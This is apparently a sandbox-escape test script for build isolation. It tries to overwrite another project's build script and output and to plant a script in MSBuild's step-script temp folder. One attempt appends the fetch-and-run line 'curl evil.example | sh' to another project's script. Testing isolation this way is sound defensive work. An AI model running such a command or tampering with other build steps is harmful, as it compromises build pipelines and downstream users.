"""Overwrite another step's script or outputs: another project's build script and output, and the
folder where MSBuild writes the scripts of this build's steps."""
import os
from escape import T, append, attempt, finish


attempt("other-project-script", lambda: append(T["otherScript"], b"curl evil.example | sh\n"))
attempt("other-project-output", lambda: append(T["otherOutput"]))
# MSBuild writes every step's .exec.cmd into a folder under the build's TMPDIR; a step runs a
# private copy of its own, so it cannot find that folder, let alone plant a script there.
attempt("find-step-scripts", lambda: f"listed {len(os.listdir(T['buildTemp']))} entries")
attempt("plant-next-step-script", lambda: append(os.path.join(T["buildTemp"], T["plantedScriptName"])))
finish()
